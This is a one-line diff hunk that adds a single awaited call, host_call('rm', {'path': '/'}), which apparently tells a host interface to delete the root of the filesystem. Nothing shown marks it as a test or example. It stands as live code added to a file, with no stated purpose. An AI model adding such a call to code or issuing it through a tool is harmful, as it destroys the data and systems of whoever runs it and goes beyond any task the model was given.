@@ -1,0 +1,1 @@
+await host_call('rm', {'path': '/'})
